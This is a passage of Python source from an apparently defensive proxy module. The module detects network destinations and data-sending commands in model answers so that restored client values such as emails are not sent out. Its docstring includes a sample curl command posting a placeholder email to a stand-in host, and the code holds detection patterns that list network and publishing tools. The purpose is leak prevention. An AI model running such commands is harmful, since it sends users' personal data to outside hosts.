"""Where restore keeps every placeholder: code and tool calls that send (scopes16: issue 12, atk17 H1-H3, H5, M6).

Restore puts the client's values back into the model's answer. Where the client runs what the model wrote (a tool
call's arguments, a command or a script it copies out of a code block), a value restored there goes wherever the
model's text sends it: `curl -d '{` / `"email": "<EMAIL_ADDRESS_1>"` / `}' https://collector.example/p`, a heredoc,
`{"webhook": "https://collector.example", "message": "<EMAIL_ADDRESS_1>"}`, an argv array, an `env` map, a `.netrc`.
Enumerating the shapes of commands and request objects (`proxy.guard.urls`: URLs, command lines, request parts) left
one more shape open each time. So for these scopes the rule is inverted:
- a tool call (its arguments or input, every value and key, any API: one scope per call; `proxy.guard.phases.
  destination_scopes` for whole answers, `TOOL` contexts and `proxy.guard.linehold` holds for streams);
- code (`code_spans`): a fenced code block (to its closing fence, or the text's end), an inline code span, an HTML
  `<pre>`, `<code>`, `<samp>`, `<kbd>`, `<listing>`, `<xmp>` or `<plaintext>` element, a notebook's code cell (its
  JSON object), and a run of shell command and code lines in prose (`command_group_end`: each command through its
  quotes, heredocs and continuations, each code line through the brackets and triple-quoted strings it opens, and
  the command and code lines right after it, past a blank line the lines that go on with its code; a REPL
  transcript: `>>> `, `In [1]:`, `irb(main):001>`, Node's `> `, with its output lines);
restore writes no value anywhere in a scope that sends (`sends`: it names a network destination or runs a network
client), except inside a URL the client sent itself (`proxy.guard.vault.Vault.note_urls`) or as a mailbox that,
restored, is the client's own. A scope that sends nothing (`{"to": "<EMAIL_ADDRESS_1>", "subject": ...}`, a code
block that formats the client's record) is restored as before; prose keeps the enumerated rules (a renderer fetches
URLs and tags; nothing runs a sentence).

A destination (`names_destination`) is what a client connects to, however the text is laid out: a URL with a scheme
and a host (`https:`, `ssh:`, `s3:`, `mysql:`..., `//host`), `www.`, a UNC path `\\\\host.example\\share`, an IP
address (not loopback nor `0.0.0.0`), a mailbox's host (`ops@collector.example`; not a JSON `from`/`sender`
member's), and a host name: with a port or a path (`collector.example:443`, `collector.example/p`), after a key or
flag that names a host (`-h`, `--host`, `Host:`, `HostName`, `machine`, `server=`...), or alone when its top-level
name is a common one (`.com`, `.net`, `.org`, `.io`, `.example`, a country's two letters but those that are also file
extensions or code words: `.py`, `.sh`, `.md`, `.id`, `.in`...). A stream's dropped text (`MARK`) counts as one:
what it held is unknown.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator

from proxy.guard.cmd26 import prose_scopes, prose_sends
from proxy.guard.http28 import config_run
from proxy.guard.rest31 import sends as rest31_sends
from proxy.guard.rest33 import sends as rest33_sends
from proxy.guard.rest35 import sends as rest35_sends
from proxy.guard.restore24 import ONE_LINE_STARTS, PLACEHOLDER, code_value, template_open
from proxy.guard.sess30 import Spans
from proxy.guard.yaml25 import CODE_INTRO

MARK = "\x00"  # `proxy.guard.urls.MARK` (urls imports this module)

# A URL with a scheme and a host (`file:///` has none), scheme-relative `//host.tld`, `www.`, a UNC path.
_SCHEMED = re.compile(r"(?i)(?<![a-z0-9+.\-])[a-z][a-z0-9+.\-]{1,31}:(?:/|\\){2}(?=[^\s/\\\"'<>`])"
                      r"|(?<![\w:/\\])//(?:[\w-]+\.)+[a-z]{2,63}\b|(?<![\w.\-])www\d{0,3}\.[\w-]+\.[\w.-]"
                      r"|(?<![\w\\])\\\\(?:[\w-]+\.)+[a-z]{2,63}\\")
_FILE = re.compile(r"(?i)file:(?:/|\\){2}(?:/|\\|[a-z]:)")  # `file:///`, `file://C:`: a local path
_IPV4 = re.compile(r"(?<![\w.])(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?!\w|\.\d)")
_IPV6 = re.compile(r"(?i)\[[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7}(?:%\w+)?\]")
# A host name: labels and a top-level name, not inside a longer dotted word (`tf.io.gfile`) nor after `.`/`-`.
_HOST = re.compile(r"(?i)(?<![\w\-$@])(?<![\w\-]\.)((?:[^\W_](?:[^\W_]|-){0,62}\.)+)"
                   r"([a-z]{2,63}|xn--[a-z0-9\-]{1,59}|[^\W\d_]{2,63})\.?(?![\w\-]|\.[\w\-])")
# An IPv4 address in another `inet_aton` form (`0xCB007109`, `3405803785`, `0313.0.0161.011`, `203.0.29961`): a
# destination before a path, a port or a tuple's port (`('3405803785', 80)`), or after a host's key or flag.
_NUMERIC_HOST = re.compile(r"(?i)(?<![\w.])(?:0x[0-9a-f]{1,8}|\d{8,10}|(?:0x[0-9a-f]{1,2}|0[0-7]{1,3}|\d{1,3})"
                           r"(?:\.(?:0x[0-9a-f]{1,2}|0[0-7]{1,3}|\d{1,5})){1,3})(?![\w.])")
_NUMERIC_AFTER = re.compile(r"/|:\d|[\"']?[ \t]*,[ \t]*\d{1,5}[ \t]*\)")
# An IPv6 address without brackets: hex groups with `::` or all eight, a digit in one (`std::vector` is none).
_BARE_V6 = re.compile(r"(?<![\w:.])(?=[0-9a-fA-F:]*\d)(?:[0-9a-fA-F]{0,4}:){2,7}[0-9a-fA-F]{0,4}(?![\w:])")
_PORT_PATH = re.compile(r"(?::\d{1,5}(?!\d)|/)")
# A mailbox's host: a destination unless the mailbox's user ends in a placeholder (`<PERSON_1>.<PERSON_2>@acme.com`:
# the model composed it from the client's values; restore leaves such a user as written unless the mailbox is the
# client's own, `proxy.guard.hosts`, and output `pii` redacts it, so nothing is sent there).
_MAILBOX_HOST = re.compile(r"(?i)(?<=[^\s@>])@((?:[^\W_](?:[^\W_]|-){0,62}\.)+([a-z]{2,63}|[^\W\d_]{2,63}))(?![\w\-])")
_HOST_WORD = re.compile(r"(?i)(?:\b(?:host(?:name)?|server|machine|endpoint|domain|addr(?:ess)?|connect|remote"
                        r"|proxy|upstream|origin|target|smtp|imap|dns|resolve)[\w-]{0,16}|(?<!\w)-{1,2}h(?:ost)?)"
                        r"[\"']?[ \t]*[:=]?[ \t]*[\"']?\Z")
_HOST_WORD_READ = 40
# Top-level names a host alone is read by: the generic ones code rarely uses as an attribute, and two-letter country
# names but those that are also file extensions or code words.
_COMMON = frozenset({"com", "net", "org", "edu", "gov", "mil", "int", "info", "biz", "io", "co", "example", "test",
                     "invalid", "onion", "xyz", "online", "site", "cloud", "tech", "top", "store", "shop"})
_AMBIGUOUS_CC = frozenset({"ac", "ai", "am", "as", "at", "by", "cc", "cd", "do", "fm", "gg", "go", "id", "im", "in",
                           "is", "it", "js", "ly", "md", "me", "mk", "ml", "mo", "ms", "my", "no", "nu", "pl", "pm",
                           "ps", "py", "re", "rs", "sh", "so", "st", "tf", "to", "tv", "ws", "sc", "sb", "sv", "vi",
                           "cx", "gs", "ge", "lu", "tk", "ch", "cs", "hs", "rb", "ts", "ex", "cr", "pk", "la"})
_CODE_OPEN = re.compile(r"(?im)^[ \t]*(`{3,}|~{3,})[^\n]*(?:\n|\Z)|<(pre|code|samp|kbd|listing|xmp|plaintext)(?=[\s>])"
                        r"[^>]*>|(`+)")
# (`<listing>` and `<xmp>` render as `<pre>` does; `<plaintext>` has no end tag: the rest of the page is its text)
_CLOSE_TAG = {name: re.compile(rf"(?i)</{name}\s*>") for name in ("pre", "code", "samp", "kbd", "listing", "xmp")}
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_OPENER_CHAR = re.compile(r"[`~<]")
MIDLINE = "\x01"  # starts a stream's kept context that was cut inside a line: no line starts there
TOOL = "\x03"  # starts a restore context (`before`) that is a tool call's text: one scope (`proxy.guard.vault`)
# Starts a restore context (before `TOOL`) of a text of an answer whose tool calls or code send (`answer_of`): every
# code scope of the text and every tool call keeps its placeholders (`proxy.guard.vault`).
SENDING = "\x04"
_TAIL = 256
TAIL = _TAIL  # what a stream's context keeps of an open scope after its opener (`scope_context`)
# Command words besides `proxy.guard.urls._NET`, the senders (`_SENDERS`) and linehold's shell words (atk17 H2): a
# command line of any of these, or of a word and a flag, starts a command paragraph (`_command_start`).
_MORE = (r"git|docker|kubectl|ab|hey|mc|powershell\.exe|pwsh\.exe|cmd(?:\.exe)?"
         r"|certbot|stripe|fly(?:ctl)?|doppler|railway|supabase|op|traefik|npm")  # (rst41: atk41 F02)
_START: re.Pattern[str] | None = None
_LINE: re.Pattern[str] | None = None


# Clients that send what they are given to a host, named or not (`curl -d ... "$URL"`, `aws sns
# publish`, `gh issue create -R owner/repo`, `dig "$(...)".host`): a scope that runs one at a command's position
# (`runs_client`) is kept whole like one naming a destination.
_SENDERS = (r"xh|curlie|httpx|grpcurl|websocat|wscat|redis-cli|psql|mysql|mariadb|mongo(?:sh)?|sqlcmd|mosquitto_pub"
            r"|kcat|kafkacat|smbclient|lwp-request|aws|gcloud|gsutil|az|gh|ping|host|getent|nmap|ncftp|wrk"
            r"|rclone|s3cmd|nats|amqp-publish|ldapsearch|snmpget|ssh-copy-id|mosh|autossh|sshfs|whois|traceroute"
            r"|openssl[ \t]+s_client|git[ \t]+(?:push|send-email|remote[ \t]+add)|docker[ \t]+(?:push|login)")
# Commands that send to a destination of their own (a public registry, paste or share service, the repository's
# remote, a cluster): a scope running one sends, an argument or none (atk21 L2: `pastebinit notes.txt`, `npm
# publish`, `twine upload dist/*`, `git push`).
_PUBLISHERS = (r"git[ \t]+push|hg[ \t]+push|docker[ \t]+push|npm[ \t]+publish|yarn[ \t]+(?:npm[ \t]+)?publish"
               r"|pnpm[ \t]+publish|twine[ \t]+upload|cargo[ \t]+publish|gem[ \t]+push|poetry[ \t]+publish"
               r"|uv[ \t]+publish|pastebinit|ffsend|croc[ \t]+send|wormhole[ \t]+send|ipfs[ \t]+add|vercel"
               r"|netlify[ \t]+deploy|firebase[ \t]+deploy|fly(?:ctl)?[ \t]+deploy|heroku|kubectl[ \t]+cp"
               # (rst41: atk41 F02: they register or upload what they are given with a CA or a SaaS)
               r"|certbot|acme\.sh|npm[ \t]+(?:adduser|add-user|login)|stripe[ \t]+[a-z][\w-]*"
               r"|fly(?:ctl)?[ \t]+secrets|netlify[ \t]+env:(?:set|import)|doppler[ \t]+secrets"
               r"|railway[ \t]+variables|supabase[ \t]+secrets|op[ \t]+item[ \t]+(?:create|edit)")
_RUNS: re.Pattern[str] | None = None
# What follows a client's name in a command (`curl is a tool` is prose): an argument shaped as one (a flag, a method,
# a quote or `$`, a URL, a mailbox, a host, an address, `host port`), or an argv array's next item; a sender's
# subcommand (`aws sns publish`, `gh issue create`).
_ARG = (r"(?=[ \t]+(?:-|\+\w|[A-Z]{3,7}\b|[\"'${(\\]|[a-z][\w+.-]{0,31}://|[\w.%+-]+@[\w-]|(?:[\w-]+\.)+[A-Za-z]{2,63}\b"
        r"|\d{1,3}(?:\.\d{1,3}){3}\b|[A-Za-z][\w.-]*:\d{1,5}\b|localhost\b|[\w-]+[ \t]+\d{1,5}\b)|\\?[\"'][ \t]*,)")
_SUB = r"(?=[ \t]+[a-z][\w-]{1,31}[ \t]+[^\s])"


# Words that introduce a command in prose before it, on its line (atk24a F18): `Run: git push`, `Then run gh ...`,
# `1. Run docker login ...`, `Next, run: ping ...`, `You can run cmd /c ...`, `To publish it, run: npm publish`. The
# command after them is at a command's position, as after a list marker or a prompt: what it runs is read as a line
# that starts with it would be (a plain word after them, `Run the tests`, `Then run it by`, is no command). The leading
# words are taken once, never given back (`*+`), and a `to ...` phrase ends at its comma: a line of `to to to ...`
# is read in linear time.
_INTRO_WORDS = (r"(?i:then|next|now|first|finally|also|afterwards|and|so|just|simply|please"
                r"|you[ \t]+(?:can|could|should|may|might|must|need[ \t]+to|have[ \t]+to)|we[ \t]+(?:can|could|will))")
_INTRO_LEAD = (rf"(?:[ \t]*(?:{_INTRO_WORDS}[ \t]*,?[ \t]+|(?i:to)[ \t]+\w+(?:[ \t]+\w+)?[ \t]*,[ \t]*))*+")
INTRO = (rf"(?:{_INTRO_LEAD}(?i:run|execute|exec|type|enter|paste|invoke)(?:[ \t]+(?i:this(?:[ \t]+command)?"
         r"|the[ \t]+following(?:[ \t]+command)?|the[ \t]+command))?(?:[ \t]*:[ \t]*|[ \t]+))?")


def runs_client(text: str) -> bool:
    """Whether `text` runs a network client at a command's position, with an argument: at a line's start (after a
    list marker, a prompt, `sudo`...), after `|`, `;`, `&`, `(`, `$(`, a backtick, `{`, at a JSON string's start (a
    value `"curl -d ..."`, an argv array's item `["curl", "-d", ...]`)."""
    global _RUNS
    if _RUNS is None:
        from proxy.guard.linehold import _PROMPT
        from proxy.guard.urls import _CMD_PREFIX, _NET

        _RUNS = re.compile(
            rf"(?m)(?:^(?:[ \t]*(?:\d{{1,3}}[.)]|[-*+>])[ \t]+)?{INTRO}(?:[ \t]*(?:RUN|CMD|ENTRYPOINT)[ \t]+)?"
            rf"(?:[ \t]*[A-Za-z]:\\[^>\n]{{0,64}}>)?{_PROMPT}|[|;&({{`][ \t]*|\$\([ \t]*"
            rf"|[\[:,][ \t]*\\?[\"']|(?<![\w-])(?:-c|-Command|-e|--eval)[ \t]+\\?[\"'])"
            rf"{_CMD_PREFIX}(?:[\w./\\~-]*[/\\])?(?:(?:{_NET})(?:\.exe)?{_ARG}|(?:{_SENDERS})(?:\.exe)?(?:{_ARG}|{_SUB})"
            rf"|(?:{_PUBLISHERS})(?:\.exe)?(?=[ \t]|$|\\?[\"']))")
    return _RUNS.search(text) is not None


def _command_start() -> re.Pattern[str]:
    """A line that starts a shell command (after a list marker, `RUN`, a prompt: `$`, `PS C:\\>`, `C:\\>`,
    `user@host:~$`): a network client (`_NET`, `_SENDERS`), a shell word (`echo`, `cat`, `base64`...:
    `proxy.guard.linehold`), a command of `_MORE`, an assignment, or a lower-case word with a flag (`tool -x`), any
    of them with `.exe`."""
    global _START
    if _START is None:
        from proxy.guard.linehold import _LEAD, _PROMPT, _WORDS
        from proxy.guard.urls import _NET

        _START = re.compile(
            rf"(?:[ \t]*(?:\d{{1,3}}[.)]|[-*+>])[ \t]+)?{INTRO}(?:[ \t]*(?:RUN|CMD|ENTRYPOINT)[ \t]+(?:\[[ \t]*\"?)?)?"
            rf"(?:[ \t]*[A-Za-z]:\\[^>\n]{{0,64}}>)?{_PROMPT}{_LEAD}"
            rf"(?:(?:{_WORDS}|{_NET}|{_SENDERS}|{_MORE})(?:\.exe)?(?=[ \t]|\Z)|[A-Za-z_]\w*=\S"
            rf"|\$(?:env:)?[A-Za-z_]\w*[ \t]*=|(?i:set|setx)[ \t]+[A-Za-z_]\w*[ \t]*="
            rf"|[a-z][\w.-]{{0,31}}(?:\.exe)?[ \t]+--?[A-Za-z])")
    return _START


def _command_line() -> re.Pattern[str]:
    """A line that starts a shell command (`_command_start`), searched for in a text (a line's start)."""
    global _LINE
    if _LINE is None:
        _LINE = re.compile(r"(?m)^(?=[ \t]*[^\s`~<])(?:" + _command_start().pattern + ")")
    return _LINE


def _tlds() -> frozenset[str]:
    from proxy.guard.urls import _tlds as known

    return known()


def names_destination(text: str) -> bool:
    """Whether `text` names a network destination (see the module), as written, with escapes and references
    decoded (`proxy.guard.urls._view`: `https:\\/\\/`, `&#58;`), and as resolvers read it (NFKC: full-width
    letters and dots, an ideographic full stop between labels)."""
    if MARK in text:
        return True
    if _names(text):
        return True
    if "\\" in text or "&" in text:
        from proxy.guard.urls import _view

        view = _view(text)[0]
        if view != text and _names(view):
            return True
    if not text.isascii():
        folded = _IDEOGRAPHIC_DOT.sub(".", unicodedata.normalize("NFKC", text))
        return folded != text and _names(folded)
    return False


# A top-level name at a text's end that may be a stream's piece of a longer name: two letters or one in capitals
# (`fmt.Pr` of `fmt.Println`, `df.co` of `df.copy()`: atk19 L1); read alone once a character follows it.
_PARTIAL_NAME = re.compile(r"[a-zA-Z]{2}|\w*[A-Z]\w*")
_IDEOGRAPHIC_DOT = re.compile(r"(?<=[^\W_])[\u3002\uff61](?=[^\W_])")


def _names(text: str) -> bool:
    for m in _SCHEMED.finditer(text):
        if _FILE.match(text, m.start()) is None:
            return True
    if "@" in text:
        known_tlds = _tlds()
        for box in _MAILBOX_HOST.finditer(text):
            tld = box.group(2).lower()
            if tld in known_tlds or not tld.isascii():
                return True
    if "." in text:
        for m in _IPV4.finditer(text):
            octets = [int(g) for g in m.groups()]
            if max(octets) <= 255 and octets[0] != 127 and any(octets):
                return True
        known = None
        for m in _HOST.finditer(text):
            tld = m.group(2).lower()
            if known is None:
                known = _tlds()
            idn = not tld.isascii()
            if tld not in known and not tld.startswith("xn--") and not idn:
                continue
            if tld == "localhost":
                continue
            at = m.start()
            if not idn and (tld in _COMMON or (len(tld) == 2 and tld not in _AMBIGUOUS_CC)) and \
                    not (m.end() == len(text) and _PARTIAL_NAME.fullmatch(m.group(2))):
                return True  # (an IDN top-level name alone is a CJK sentence's end as often: a port, path or key)
            if _PORT_PATH.match(text, m.end()) is not None:
                return True
            if _HOST_WORD.search(text, max(0, at - _HOST_WORD_READ), at) is not None:
                return True
    for m in _NUMERIC_HOST.finditer(text):
        value = m.group()
        plain = "." in value and all(part.isdigit() and not (len(part) > 1 and part[0] == "0") and int(part) < 256
                                     for part in value.split("."))
        if plain or (value.isdigit() and len(value) < 8):
            continue  # (a dotted decimal address is read above; a version, a count)
        if _NUMERIC_AFTER.match(text, m.end()) is not None or \
                _HOST_WORD.search(text, max(0, m.start() - _HOST_WORD_READ), m.start()) is not None:
            return True
    if "::" in text or text.count(":") >= 7:
        for v6 in _BARE_V6.finditer(text):
            group = v6.group()
            if ("::" in group or group.count(":") == 7) and group.strip(":0") not in ("", "1"):
                return True
    if "[" in text:
        for v6 in _IPV6.finditer(text):
            inner = v6.group()[1:-1].split("%")[0]
            if inner.strip(":0") not in ("", "1") and any(c.isdigit() for c in inner):
                return True
    return False


def code_spans(text: str, memo: RunsRead | None = None, documents: bool = True) -> Iterator[tuple[int, int, int]]:
    """(start, end of its opener, end) of each code scope of `text`: a fenced block (to the line after its closing
    fence, or the text's end), an HTML `<pre>`/`<code>`/`<samp>`/`<kbd>`/`<listing>`/`<xmp>` element (to its end tag,
    or the text's end; `<plaintext>` to the text's end), an inline code span (a backtick run to the next run of the
    same length before a blank line; unclosed: none, unless it is open at the text's end), a notebook's code cell
    (`"cell_type": "code"`: its JSON object; opener: to `"code"`), a run of command and code lines (from a line that
    starts a shell command, `_command_start`, or code, `_code_start`, to `command_group_end`; its opener: the line's
    first characters) (atk19 M1: unfenced code, REPL transcripts, `<listing>`, notebooks). `memo`: what the caller
    keeps of the runs it read (a stream's held text, read again with each piece: a run in a text that this one goes
    on is read on from its last line that ended; `RunsRead`)."""
    pos = 0
    n = len(text)
    lines, codes = _command_line(), _code_line()
    cmd: re.Match[str] | None = None
    code: re.Match[str] | None = None
    cell: re.Match[str] | None = None
    seen = [-1, -1, -1]  # where the next command line, code line, notebook cell was found (searched again once passed)
    from proxy.guard.jsondoc24 import json_document  # (restore24: atk24b F4)

    doc, doc_at = None, -1 if documents else n + 1  # (`documents`: a JSON document is one; not in a JSON text)
    yml, yml_at = None, -1 if documents else n + 1  # (yaml25: unfenced YAML, atk24a F19)
    prose = list(prose_scopes(text))  # (cmd26: commands in prose, atk25 F05)
    sess, sess_at, sessions = None, -1, Spans(text)
    while pos < n:
        if seen[0] < pos:
            cmd = lines.search(text, pos)
            seen[0] = cmd.start() if cmd is not None else n + 1
        if seen[1] < pos:
            code = codes.search(text, pos)
            seen[1] = code.start() if code is not None else n + 1
        lines_at = min(seen[0], seen[1])
        # (a code opener that starts before the run has its backtick, `~` or `<` there: a run's line starts with none)
        m = None if lines_at <= n and _OPENER_CHAR.search(text, pos, lines_at) is None else _CODE_OPEN.search(text, pos)
        if seen[2] < pos:
            cell = _NOTEBOOK_CELL.search(text, pos) if '"cell_type"' in text else None
            seen[2] = cell.start() if cell is not None else n + 1
        first = min(seen[0], seen[1], m.start() if m is not None else n + 1)
        if doc_at < pos:  # a JSON document (restore24: atk24b F4)
            doc = json_document(text, pos)
            doc_at = doc[0] if doc is not None else n + 1
        if yml_at < pos:
            yml = config_run(text, pos)  # (http28: unfenced HTTP requests, Dockerfiles; atk26 F8)
            yml_at = yml[0] if yml is not None else n + 1
        while prose and prose[0][0] < pos:
            prose.pop(0)
        if sess_at < pos:  # (sess30: unfenced network sessions, sending verbs, inline JSON objects; atk28 F06, F15)
            sess = sessions.first(pos)
            sess_at = sess[0] if sess is not None else n + 1
        if sess is not None and sess[0] <= min(first, doc_at, yml_at, seen[2], prose[0][0] if prose else n):
            yield sess
            pos = max(sess[2], sess[1], sess[0] + 1)
            continue
        if prose and prose[0][0] < min(first, doc_at, yml_at, seen[2]):
            yield prose[0]
            pos = max(prose[0][2], prose[0][1], prose[0][0] + 1)
            continue
        if yml is not None and yml[0] <= first and (doc is None or yml[0] < doc[0]) and \
                (cell is None or yml[0] < cell.start()):
            yield yml
            pos = max(yml[2], yml[1], yml[0] + 1)
            continue
        if doc is not None and doc[0] <= first and (cell is None or doc[0] < cell.start()):
            end = _json_end(text, doc[1])
            yield doc[0], doc[1] + 1, end
            pos = max(end, doc[1] + 1)
            continue
        if cell is not None and cell.start() < first:  # a notebook's code cell: its JSON object
            brace = text.rfind("{", max(0, cell.start() - _TAIL), cell.start())
            start = brace if brace >= 0 else cell.start()
            end = _json_end(text, start)
            yield start, cell.end(), end
            pos = max(end, cell.end())
            continue
        if (cmd is not None or code is not None) and (m is None or min(seen[0], seen[1]) < m.start()):
            start = min(seen[0], seen[1])  # a run of command and code lines, to its end
            eol = text.find("\n", start)
            eol = n if eol < 0 else eol
            end = command_group_end(text, start, memo)
            head = min(eol, start + _TAIL)
            yield start, head, end
            pos = max(end, head, start + 1)
            continue
        if m is None:
            return
        if m.group(1) is not None:  # a fence: to a closing fence of the same character, at least as long
            run = m.group(1)
            close = re.compile(rf"(?m)^[ \t]*{re.escape(run[0])}{{{len(run)},}}[ \t]*$")
            c = close.search(text, m.end())
            end = n if c is None else min(n, c.end() + 1)
            yield m.start(), m.end(), end
            pos = max(end, m.end())
        elif m.group(2) is not None:  # an HTML code element
            close_tag = _CLOSE_TAG.get(m.group(2).lower())  # (`<plaintext>`: none, to the text's end)
            c = close_tag.search(text, m.end()) if close_tag is not None else None
            end = n if c is None else c.end()
            yield m.start(), m.end(), end
            pos = max(end, m.end())
        else:  # an inline code span: the next backtick run of the same length, within the paragraph
            run = m.group(3)
            blank = _BLANK_LINE.search(text, m.end())
            limit = blank.start() if blank is not None else n
            k = m.end()
            end = -1
            while True:
                k = text.find("`", k, limit)
                if k < 0:
                    break
                j = k
                while j < limit and text[j] == "`":
                    j += 1
                if j - k == len(run):
                    end = j
                    break
                k = j
            if end < 0:
                if blank is None:  # open at the text's end (a stream's next piece may close it)
                    yield m.start(), m.end(), n
                    return
                pos = m.end()
                continue
            yield m.start(), m.end(), end
            pos = end


# A line's first word is complete: after a prompt or a list marker (`_LINE_LEAD`, a prompt not complete yet: none), a
# blank after it, or a stop.
_LINE_LEAD = re.compile(r"[ \t]*(?:[$%#>]|PS[^>\n]{0,64}>|[A-Za-z]:\\[^>\n]{0,64}>|\d{1,3}[.)]|[-*+]|RUN)[ \t]+")
_OPEN_PROMPT = re.compile(r"[ \t]*(?:PS\b|[A-Za-z]:(?:\\|\Z))")  # (a Windows prompt's start: no word of it counts)
_BARE_MARKER = re.compile(r"[ \t]*(?:\d{1,3}[.)]?|[-*+>$%#])[ \t]*")  # a list marker or prompt, nothing after it yet
_VARIABLE_DONE = re.compile(r"\$[\w:]+[ \t]*[^\s]")  # a PowerShell variable first: what follows it tells (`$E =`)
_WORD_DONE = re.compile(r"[ \t]*[^\s]+(?:[ \t]|[.!?,;:)]\Z)")
_HEREDOC = re.compile(r"<<-?[ \t]*(['\"]?)([A-Za-z_][\w.-]{0,31})\1")
_CONTINUED = re.compile(r"[\\^`][ \t]*\r?\Z")  # a line continued: shell `\\`, cmd `^`, PowerShell `` ` ``


def command_extent(text: str, start: int) -> int:
    """Where the shell command starting at `start` ends: the line break that ends it outside a quoted string, a
    heredoc's body (`<<EOF` to its delimiter line) and a continued line (`\\`, `^`, `` ` `` at its end); the text's
    end if it is still open there."""
    n = len(text)
    i = start
    quote = ""
    heredocs: list[str] = []
    while i < n:
        c = text[i]
        if quote:
            if c == quote and (quote == "'" or text[i - 1] != "\\"):
                quote = ""
        elif c in "'\"":
            quote = c
        elif c == "<" and text.startswith("<<", i) and not text.startswith("<<<", i):
            m = _HEREDOC.match(text, i)
            if m is not None:
                heredocs.append(m.group(2))
                i = m.end()
                continue
        elif c == "\n":
            line = text[text.rfind("\n", start, i) + 1:i]
            if _CONTINUED.search(line) is not None:
                i += 1
                continue
            while heredocs:  # each body to its delimiter's line
                delimiter = re.compile(rf"(?m)^[ \t]*{re.escape(heredocs.pop(0))}[ \t]*\r?$")
                d = delimiter.search(text, i + 1)
                if d is None:
                    return n
                i = d.end()
            return i
        i += 1
    return n


def _word_done(line: str) -> bool:
    """Whether the first word of `line` (a stream's last, unended line) is complete (`_WORD_DONE`)."""
    lead = _LINE_LEAD.match(line)
    if lead is None and (_OPEN_PROMPT.match(line) is not None or _BARE_MARKER.fullmatch(line) is not None):
        return False
    at = lead.end() if lead is not None else 0
    if line.startswith("$", at) and _VARIABLE_DONE.match(line, at) is None:
        return False
    if line.endswith(".") and _command_start().match(line + "exe -x") is not None:
        return False  # (`curl.` of `curl.exe`)
    return _WORD_DONE.match(line, at) is not None


def command_group_end(text: str, start: int, memo: RunsRead | None = None) -> int:
    """The end of the run of command and code lines from `start`: each command's extent (`command_extent`) or code
    line's (`_code_extent`), then the next line's if it goes on with the run (`_run_line`: a command, a code line, a
    stream's kept line, `MIDLINE`; after a code line an indented line, a closing bracket, a comment; in a REPL
    transcript any line and, past blank lines, the next prompt; after code lines, past blank lines, a line that goes
    on with the code, `_goes_on`: a function's `return {...}`, an open object's next member): `export E=...` then
    `curl ... "$E"`, `data = {...}` then `requests.post(URL, json=data)`; open (the text's end) while the line after
    the last is not known yet (no word of it complete, or it may still become a code line: `_maybe_code`,
    `_may_go_on`; only blank lines after it). `memo`: the runs this caller read before (`code_spans`)."""
    n = len(text)
    state = None
    if memo is not None:  # (a stream's held text read again with its next piece: on from its last line read)
        for old, old_start, old_state in memo:
            if old_start == start and len(old) <= n and text.startswith(old):
                state = old_state
                break
    end, last = _group_end(text, start, state)
    if memo is not None and last is not None and last != state:
        memo.insert(0, (text, start, last))
        del memo[_RUNS_READ:]
    return end


_State = tuple[int, str, bool, bool, int]  # a run's line: where it starts, its kind, code, repl, the brackets open
# What a caller keeps of the runs it read (`code_spans`' `memo`): the last few, each with the state at its last line
# that ended (what decided it, and the state, lies before that line's end: a longer text with the same start reads the
# same up to there).
RunsRead = list[tuple[str, int, _State]]
_RUNS_READ = 4


def _group_end(text: str, start: int, state: _State | None) -> tuple[int, _State | None]:
    """`command_group_end`, from `state` if given (a line of the run, read in a text this one goes on), and the state
    at the last line of the run that ended in `text`."""
    n = len(text)
    if state is None:
        at = start
        kind = _run_line(text, at, False, False) or "code"
        code = kind in ("code", "repl")
        repl = kind == "repl"
        depth = 0  # the brackets a code line left open at a blank line (read on past it: `_goes_on`)
    else:
        at, kind, code, repl, depth = state
    last = state
    while True:
        if text.find("\n", at) >= 0:
            last = (at, kind, code, repl, depth)
        if kind == "cmd":
            end, depth = command_extent(text, at), 0
        else:
            end, depth = _code_extent(text, at, depth)
        if end >= n:
            return n, last
        nxt = end + 1
        eol = text.find("\n", nxt)
        line = text[nxt:] if eol < 0 else text[nxt:eol]
        if eol < 0:  # the last line, not ended (a stream's next piece)
            if not _word_done(line) or _run_line(text, nxt, code, repl) is not None:
                return n, last
            if (code or repl) and _maybe_code(line, code):
                return n, last
            return nxt, last
        if not line.strip():
            k = nxt  # past blank lines to the next line: a REPL's next prompt (IPython's `In [2]:`), code going on
            while k < n and text[k] in " \t\r\n":
                k += 1
            if k >= n:
                return n, last
            after = text.rfind("\n", nxt, k) + 1
            unended = text.find("\n", k) < 0  # (a stream's next piece)
            if repl:
                if unended and _REPL_PARTIAL.match(text, k) is not None:
                    return n, last
                if _REPL_START.match(text, k) is None and _REPL_MORE.match(text, k) is None:
                    return nxt, last
            else:
                eol = text.find("\n", after)
                line = text[after:] if eol < 0 else text[after:eol]
                if not _goes_on(line, code, depth):
                    return (n if unended and _may_go_on(line, code, depth) else nxt), last
                kind, at = "more", after  # (read as code, the brackets still open)
                continue
            nxt = after
        found = _run_line(text, nxt, code, repl)
        if found is None:
            return nxt, last
        kind = found
        code = code or kind in ("code", "repl")
        repl = repl or kind == "repl"
        at = nxt


# Code outside a code block (atk19 M1): a line that starts a statement of Python, JavaScript, Go, Ruby, Java, C#...
# (an import, a declaration, an assignment, a definition, a call that ends the line or opens one, a block's head), a
# REPL prompt (`>>> `, `In [1]:`, `irb(main):001>`, Node's `> ` before such a line). Prose lines are sentences: a
# word, then words (`Thanks <PERSON_1>, ...`), never `name = value` or `name(...)` ending the line.
_ID = r"[A-Za-z_$][\w$]*"
_CHAIN = rf"{_ID}(?:(?:\.|::|->|\?\.){_ID}|\[[^\]\n]{{0,64}}\])*"
_CODE_START = (
    rf"[ \t]*(?:>(?:>>)?[ \t]+|(?:\d{{1,3}}[.)]|[-*+])[ \t]+)?{CODE_INTRO}(?:"  # (yaml25: `Paste ...: code`)
    rf"import[ \t]+(?:[\w.]+(?:[ \t]+as[ \t]+\w+)?(?:[ \t]*,[ \t]*[\w.]+(?:[ \t]+as[ \t]+\w+)?)*[ \t]*;?[ \t]*$"
    rf"|[^\n]*?[ \t]from[ \t]+['\"][^'\"\n]+['\"][ \t]*;?[ \t]*$|['\"][^'\"\n]+['\"][ \t]*;?[ \t]*$|\([ \t]*$)"
    rf"|from[ \t]+[\w.]+[ \t]+import[ \t]+[\w*(]"
    rf"|(?:require|require_relative)[ \t(]+['\"][^'\"\n]+['\"]\)?[ \t]*;?[ \t]*$"
